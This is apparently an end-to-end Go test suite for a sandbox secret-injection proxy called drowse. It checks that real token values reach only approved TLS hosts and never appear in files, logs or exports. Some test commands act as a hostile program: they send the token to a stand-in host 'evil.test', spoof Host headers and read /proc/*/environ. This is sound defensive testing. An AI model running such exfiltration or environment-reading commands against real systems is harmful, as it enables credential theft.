package e2e

import (
	"bytes"
	"encoding/base64"
	"encoding/pem"
	"errors"
	"fmt"
	"io/fs"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/drowse-dev/drowse/client"
)

// secretHost is a host whose certificate can be verified.
const secretHost = "api." + domain

// secretValue is looked for everywhere.
const secretValue = "s3cr3t-value-of-the-test-8c1f"

// newSecretWorld returns a world in which secretHost is to be trusted, with a
// secret for it.
func newSecretWorld(t *testing.T, o client.SecretOptions) (world, client.Secrets) {
	t.Helper()
	ctx := deadline(t, 5*time.Minute)
	in := newInternet(t)
	in.name("good.test.", goodAddr)
	in.name("evil.test.", evilAddr)
	in.name(secretHost+".", goodAddr)
	ca := filepath.Join(t.TempDir(), "ca.pem")
	if err := os.WriteFile(ca, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: authority().cert.Raw}), 0o600); err != nil {
		t.Fatal(err)
	}
	w := world{startServer(t, "--dns", dnsAddr+":53", "--egress-ca", ca), in, ctx}
	secrets := client.NewSecrets(w.server.client)
	if len(o.Hosts) == 0 {
		o.Hosts = []string{secretHost}
	}
	o.Value = secretValue
	if _, err := secrets.Set(ctx, "api-token", o); err != nil {
		t.Fatal(err)
	}
	return w, secrets
}

// ask runs curl inside as a user would, who trusts what the system trusts.
func (w world) ask(sb *client.Sandbox, args ...string) string {
	w.server.t.Helper()
	exit, out := run(w.ctx, w.server.t, sb, append([]string{"curl", "--silent", "--show-error", "--noproxy", "*", "--max-time", hang}, args...)...)
	if exit.Code != 0 {
		return "refused: " + out
	}
	return out
}

// authorization returns what the last request had.
func (w world) authorization() string { return w.lastRequest().Header.Get("Authorization") }

// TestSecretNeverEnters has a program use a secret that it does not have, and
// takes that through a new value, a pause, a crash and the end of the secret.
func TestSecretNeverEnters(t *testing.T) {
	w, secrets := newSecretWorld(t, client.SecretOptions{Headers: map[string]string{"Authorization": "Bearer {}"}})
	sb := w.create(w.ctx, client.CreateOptions{Secrets: map[string]string{"api-token": ""}})
	url := "https://" + secretHost + "/"
	use := func(want string) {
		t.Helper()
		if got := w.ask(sb, url); got != from(goodAddr, secretHost) {
			t.Fatalf("got %q; refusals: %+v", got, w.refusals(sb))
		}
		if got := w.authorization(); got != want {
			t.Errorf("the host got Authorization: %q, want %q", got, want)
		}
	}
	// until waits until all servers know of a change, where there are several.
	until := func(want string, ask func(*client.Sandbox, ...string) string, args ...string) {
		t.Helper()
		if servers() == 0 {
			return
		}
		eventually(t, 10*time.Second, "a secret as it was changed", func() error {
			if ask(sb, append(args, url)...); w.authorization() != want {
				return fmt.Errorf("the host got Authorization: %q, want %q", w.authorization(), want)
			}
			return nil
		})
	}
	use("Bearer " + secretValue)

	_, placeholder := run(w.ctx, t, sb, "sh", "-c", "echo $API_TOKEN")
	placeholder = strings.TrimSpace(placeholder)
	if !strings.HasPrefix(placeholder, "drowse-secret-") {
		t.Fatalf("the variable has %q", placeholder)
	}
	// In a header of the program's own, and in credentials that Base64 hides.
	w.ask(sb, "--header", "X-Key: k="+placeholder, "--user", "me:"+placeholder, url+"?q="+placeholder)
	got := w.lastRequest()
	if got.Header.Get("X-Key") != "k="+secretValue || got.URL.Query().Get("q") != secretValue {
		t.Errorf("placeholders became %q and %q", got.Header.Get("X-Key"), got.URL.RawQuery)
	}
	// Elsewhere the placeholder is what there is.
	w.curl(sb, "--header", "Authorization: Bearer "+placeholder, "https://evil.test/")
	if got := w.authorization(); got != "Bearer "+placeholder {
		t.Errorf("another host got Authorization: %q", got)
	}
	if got := w.ask(sb, "http://"+secretHost+"/"); !strings.Contains(got, "without TLS") {
		t.Errorf("without TLS: %q", got)
	}
	if got := w.lastRequest(); got.TLS == nil {
		t.Error("a request without TLS has arrived")
	}
	if out := w.ask(sb, "--include", "--header", "Authorization: x", "https://"+secretHost+"/echo"); strings.Contains(out, secretValue) || !strings.Contains(out, "Bearer "+placeholder) {
		t.Errorf("what was sent back came in: %q", out)
	}

	const next = "another-value-of-the-test-17"
	if _, err := secrets.Rotate(w.ctx, "api-token", next); err != nil {
		t.Fatal(err)
	}
	until("Bearer "+next, w.ask)
	use("Bearer " + next)
	w.pause(w.ctx, sb.ID)
	if _, err := secrets.Rotate(w.ctx, "api-token", secretValue); err != nil {
		t.Fatal(err)
	}
	w.connect(w.ctx, sb.ID)
	use("Bearer " + secretValue)
	w.crash()
	w.start()
	use("Bearer " + secretValue)
	if err := secrets.Remove(w.ctx, "api-token"); err != nil {
		t.Fatal(err)
	}
	until("Bearer "+placeholder, w.curl, "--header", "Authorization: Bearer "+placeholder)
	w.curl(sb, "--header", "Authorization: Bearer "+placeholder, url)
	if got := w.authorization(); got != "Bearer "+placeholder {
		t.Errorf("after the end of the secret the host got Authorization: %q", got)
	}
	uses := w.entries(w.ctx, sb.ID, "secret.used")
	if len(uses) == 0 || !strings.Contains(uses[0].Detail, "api-token for GET "+secretHost) {
		t.Errorf("the event log has the uses %+v", uses)
	}
}

// forms are the ways in which a value may lie somewhere: as it is, in the Base64 of
// something that has it in it, in hexadecimal digits, and as it stands in a URL.
func forms(value string) (all []string) {
	all = []string{value, fmt.Sprintf("%x", value), url.QueryEscape(value)}
	for skip := range 3 {
		// What is before and after it may be anything: only whole groups count.
		text := value[skip : len(value)-(len(value)-skip)%3]
		all = append(all, base64.StdEncoding.EncodeToString([]byte(text)), base64.URLEncoding.EncodeToString([]byte(text)))
	}
	return all
}

// searchFiles returns the files below dir that have one of the texts in them.
func searchFiles(t *testing.T, dir string, texts ...string) (found []string) {
	t.Helper()
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return nil // it has gone meanwhile
		}
		data, err := os.ReadFile(path)
		for _, text := range texts {
			if err == nil && bytes.Contains(data, []byte(text)) {
				found = append(found, path)
				break
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return found
}

// TestSecretIsNowhere uses a secret in every way there is, and looks for its value
// in all that a sandbox is made of and all that is told about it.
func TestSecretIsNowhere(t *testing.T) {
	w, secrets := newSecretWorld(t, client.SecretOptions{Headers: map[string]string{"Authorization": "Bearer {}"}, Query: map[string]string{"key": "{}"}})
	sb := w.create(w.ctx, client.CreateOptions{Secrets: map[string]string{"api-token": ""}})
	u := "https://" + secretHost
	if exit, out := run(w.ctx, t, sb, "sh", "-c", `
		set -e
		curl -sS `+u+`/ > got; curl -sS -D heads -u me:$API_TOKEN "`+u+`/echo?q=$API_TOKEN" >> got
		curl -sS -v -H "X-Key: $API_TOKEN" `+u+`/ 2> talk >> got
		curl -s -k https://evil.test/ -H "X-Key: $API_TOKEN" >> got; curl -sS http://`+secretHost+`/ >> got
		python3 -c 'import os,urllib.request; print(urllib.request.urlopen(urllib.request.Request("`+u+`/", headers={"X": os.environ["API_TOKEN"]})).read())'
		(exec sleep 1000) > /dev/null 2>&1 &`); exit.Code != 0 {
		t.Fatalf("%s: %s", exit.Status, out)
	}
	if n := strings.Count(w.arrived(), secretValue); n < 4 {
		t.Fatalf("the value arrived %d times: %s", n, w.arrived())
	}
	_, placeholder := run(w.ctx, t, sb, "sh", "-c", "echo $API_TOKEN")
	placeholder = strings.TrimSpace(placeholder)
	if _, out := run(w.ctx, t, sb, "sh", "-c", "cat /proc/[0-9]*/environ got heads talk /run/drowse/* /etc/ssl/certs/ca-certificates.crt 2>/dev/null"); contains(out, forms(secretValue)) || !strings.Contains(out, placeholder) {
		t.Error("the value is in an environment or a file, or the placeholder is in none")
	}

	w.pause(w.ctx, sb.ID)
	found := searchFiles(t, w.server.dir(), placeholder)
	for _, in := range []string{"drowse.db", "/images/", "/layers/"} {
		if !slices.ContainsFunc(found, func(path string) bool { return strings.Contains(path, in) }) {
			t.Errorf("the placeholder is found in %q, and not in %s: the search would miss what is there", found, in)
		}
	}
	if found := searchFiles(t, w.server.dir(), forms(secretValue)...); len(found) > 0 {
		t.Errorf("the value is in %q", found)
	}
	var export bytes.Buffer
	if _, err := w.server.client.Export(w.ctx, sb.ID, &export); err != nil {
		t.Fatal(err)
	}
	if contains(export.String(), forms(secretValue)) || !strings.Contains(export.String(), placeholder) {
		t.Error("the value is in the export, or the placeholder is not")
	}
	_, refusedErr := secrets.Set(w.ctx, "api-token", client.SecretOptions{Hosts: []string{"*"}, Value: secretValue})
	if refusedErr == nil {
		t.Error("a secret for all hosts was accepted")
	}
	told := fmt.Sprint(refusedErr) + w.log.String()
	for _, path := range []string{"/v1/secrets", "/v1/secrets/api-token", "/v1/sandboxes/" + sb.ID, "/v1/sandboxes/" + sb.ID + "/lifecycle", "/v1/events", "/metrics", "/sandboxes/" + sb.ID + "/logs"} {
		resp, err := w.raw(w.ctx, http.MethodGet, path, http.Header{"X-Api-Key": {apiKey}}, nil)
		if err != nil {
			t.Fatal(err)
		}
		told += string(resp.body)
	}
	// A member that is there twice, and one of the wrong kind, are repeated by no error.
	for _, body := range []string{`{"hosts":["a.test"],"value":"` + secretValue + `","value":"x"}`, `{"hosts":["a.test"],"value":["` + secretValue + `"]}`, `{"value":"` + secretValue + `"`} {
		resp, err := w.raw(w.ctx, http.MethodPut, "/v1/secrets/other", http.Header{"X-Api-Key": {apiKey}}, strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		if resp.status/100 != 4 {
			t.Errorf("%s: %d", body, resp.status)
		}
		told += string(resp.body)
	}
	if contains(told, forms(secretValue)) {
		t.Error("the value is in an answer, an error, an event or the log")
	}
	for _, want := range []string{"secret.used", "api-token", "secret.refused", "not TLS for " + secretHost} {
		if !strings.Contains(told, want) {
			t.Errorf("nothing tells of %q", want)
		}
	}

	// Another server has the name and the placeholder, and says that the secret is
	// missing until it is set there, too.
	if err := secrets.Remove(w.ctx, "api-token"); err != nil {
		t.Fatal(err)
	}
	copied, err := w.server.client.Import(w.ctx, &export, client.ImportOptions{NewID: true})
	if err != nil {
		t.Fatal(err)
	}
	if len(copied.Secrets) != 1 || !copied.Secrets[0].Missing || copied.Secrets[0].Name != "api-token" {
		t.Errorf("the import says %+v of its secrets", copied.Secrets)
	}
}

func contains(text string, any []string) bool {
	return slices.ContainsFunc(any, func(s string) bool { return strings.Contains(text, s) })
}

// TestSecretsAndHostilePrograms holds that what names another host than it goes to
// gets no value there, and that what fails says why.
func TestSecretsAndHostilePrograms(t *testing.T) {
	w, _ := newSecretWorld(t, client.SecretOptions{Hosts: []string{secretHost, "*.wild." + domain}, Headers: map[string]string{"Authorization": "Bearer {}"}})
	w.name("private."+"wild."+domain+".", "10.0.0.1")
	w.name("bad.wild."+domain+".", evilAddr) // the certificate there is for another depth
	sb := w.create(w.ctx, client.CreateOptions{Secrets: map[string]string{"api-token": "TOKEN"}, AllowOut: []string{evilAddr}})
	at := func(name, addr string) string {
		return "--resolve " + name + ":443:" + addr + " --resolve " + name + ":80:" + addr + " "
	}
	u := "https://" + secretHost + "/"
	refusal := func(reason string) {
		t.Helper()
		x, err := w.server.client.Explain(w.ctx, sb.ID)
		if err != nil {
			t.Fatal(err)
		}
		if !slices.ContainsFunc(x.Refusals, func(r client.Refusal) bool { return r.Reason == reason }) {
			t.Errorf("no refusal for %q among %+v", reason, x.Refusals)
		}
	}
	for _, c := range []struct{ args, want, reason string }{
		// The name decides, whatever the address.
		{at(secretHost, evilAddr) + u, from(goodAddr, secretHost), ""},
		{at(secretHost, "10.0.0.1") + u, "refused", ""},
		// A host that only says so.
		{"--insecure --header Host:" + secretHost + " https://evil.test/", from(evilAddr, secretHost), ""},
		{"--insecure --header Host:" + secretHost + " https://" + evilAddr + "/", from(evilAddr, secretHost), ""},
		{"--header Host:evil.test " + u, "drowse refused this request", "other host"},
		{"--header Host:" + secretHost + " http://" + evilAddr + "/", "without TLS", "not TLS"},
		{"--request-target https://evil.test/ " + u, "drowse refused this request", "other host"},
		{"--request TRACE " + u, "drowse refused this request", "protocol"},
		{"--http2-prior-knowledge " + u, "", ""},
		// Names under the wildcard that lead where no sandbox may go.
		{"https://private.wild." + domain + "/", "refused", ""},
		{at("private.wild."+domain, evilAddr) + "https://private.wild." + domain + "/", "cannot be reached", "closed"},
		{"https://bad.wild." + domain + "/", "could not be verified", "certificate"},
		// Programs that trust somebody else.
		{"--cacert /etc/hostname " + u, "refused", ""},
		{"--pinnedpubkey sha256//AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA= " + u, "refused", "pinned"},
		{"--capath /nothing --cacert /var/tmp/other.pem " + u, "refused", "pinned"},
	} {
		if strings.Contains(c.args, "other.pem") {
			run(w.ctx, t, sb, "sh", "-c", "sed '/END CERTIFICATE/q' /etc/ssl/certs/ca-certificates.crt > /var/tmp/other.pem")
		}
		before := strings.Count(w.arrived(), secretValue)
		got := w.ask(sb, strings.Fields(c.args)...)
		if c.want == "refused" && !strings.HasPrefix(got, "refused") || !strings.Contains(got, c.want) {
			t.Errorf("curl %s: got %q, want %q", c.args, got, c.want)
		}
		arrives := 0
		if c.want == from(goodAddr, secretHost) {
			arrives = 1
		}
		if n := strings.Count(w.arrived(), secretValue) - before; n != arrives && c.want != "" {
			t.Errorf("curl %s: the value arrived %d times, want %d", c.args, n, arrives)
		}
		if c.reason != "" {
			refusal(c.reason)
		}
	}
	for line := range strings.Lines(w.arrived()) {
		if strings.Contains(line, secretValue) && !strings.HasPrefix(line, goodAddr) {
			t.Errorf("the value arrived at %s", line)
		}
	}
	for _, addr := range forbidden {
		if n := w.requests(addr); n > 0 {
			t.Errorf("%s was reached %d times", addr, n)
		}
	}
}

// TestSecretsOfCopies has forks, sandboxes from snapshots, imports and sandboxes
// that were booted anew use the secret of their source, and its end break off what
// goes on by it.
func TestSecretsOfCopies(t *testing.T) {
	w, secrets := newSecretWorld(t, client.SecretOptions{})
	sb := w.create(w.ctx, client.CreateOptions{Secrets: map[string]string{"api-token": ""}, Env: map[string]string{"A": "b"}})
	u := "https://" + secretHost
	// A shell that has the placeholder in its memory, and asks when it is told to.
	const loop = `p=$API_TOKEN; while :; do if [ -e /tmp/go ]; then rm /tmp/go; curl -sS -H "X-Key: $p" ` + "https://" + secretHost + `/ > /tmp/said 2>&1; mv /tmp/said /tmp/done; fi; sleep 0.1; done`
	run(w.ctx, t, sb, "sh", "-c", "("+loop+") > /dev/null 2>&1 &")
	use := func(what, id string, keepsMemory bool) {
		t.Helper()
		sb, err := w.server.client.Connect(w.ctx, id, 10*time.Minute)
		if err != nil {
			t.Fatal(err)
		}
		command := "curl -sS -H \"X-Key: $API_TOKEN\" " + u + "/"
		if keepsMemory {
			command = "rm -f /tmp/done; touch /tmp/go; while [ ! -e /tmp/done ]; do sleep 0.1; done; cat /tmp/done"
		}
		_, out := run(w.ctx, t, sb.Sandbox, "sh", "-c", command)
		if got := w.lastRequest().Header.Get("X-Key"); got != secretValue || out != from(goodAddr, secretHost) {
			t.Errorf("%s: the host got %q, and the program %q", what, got, out)
		}
		w.lastRequest().Header.Del("X-Key")
	}
	use("the first", sb.ID, true)
	snaps := client.NewSnapshots(w.server.client)
	children, err := snaps.Fork(w.ctx, sb.ID, client.ForkOptions{})
	if err != nil || len(children) != 1 || children[0].Err != nil {
		t.Fatalf("forked %+v, %v", children, err)
	}
	use("a fork", children[0].Sandbox.ID, true)
	snap, err := snaps.Create(w.ctx, sb.ID, client.SnapshotOptions{})
	if err != nil {
		t.Fatal(err)
	}
	use("of a snapshot", w.create(w.ctx, client.CreateOptions{Snapshot: snap.ID}).ID, true)
	if err := snaps.Delete(w.ctx, snap.ID); err != nil {
		t.Fatal(err)
	}
	w.pause(w.ctx, sb.ID)
	var export bytes.Buffer
	if _, err := w.server.client.Export(w.ctx, sb.ID, &export); err != nil {
		t.Fatal(err)
	}
	for _, allowed := range []bool{false, true} {
		copied, err := w.server.client.Import(w.ctx, bytes.NewReader(export.Bytes()), client.ImportOptions{NewID: true, Secrets: allowed})
		if err != nil {
			t.Fatal(err)
		}
		if len(copied.Secrets) != 1 || copied.Secrets[0].Withheld == allowed || copied.Secrets[0].Missing {
			t.Errorf("of an import that may use its secrets (%t): %+v", allowed, copied.Secrets)
		}
		if allowed {
			use("an import", copied.ID, true)
		} else if err := w.server.client.Kill(w.ctx, copied.ID); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := w.server.client.Connect(w.ctx, sb.ID, 10*time.Minute); err != nil {
		t.Fatal(err)
	}
	if _, err := w.server.client.PauseWith(w.ctx, sb.ID, client.Filesystem); err != nil {
		t.Fatal(err)
	}
	use("booted anew", sb.ID, false)

	ended := make(chan client.Exit, 1)
	begun := w.requests(goodAddr)
	go func() {
		exit, _ := sb.Run(w.ctx, client.Command{Args: []string{"sh", "-c", "curl -sS -N -H \"X-Key: $API_TOKEN\" " + u + "/stream"}})
		ended <- exit
	}()
	eventually(t, 30*time.Second, "a stream is open", func() error {
		if w.requests(goodAddr) == begun {
			return errors.New("not yet")
		}
		return nil
	})
	if err := secrets.Remove(w.ctx, "api-token"); err != nil {
		t.Fatal(err)
	}
	select {
	case exit := <-ended:
		if exit.Code == 0 {
			t.Error("the stream came to an end in order")
		}
	case <-w.ctx.Done():
		t.Error("a stream goes on by a secret that has ended")
	}
}
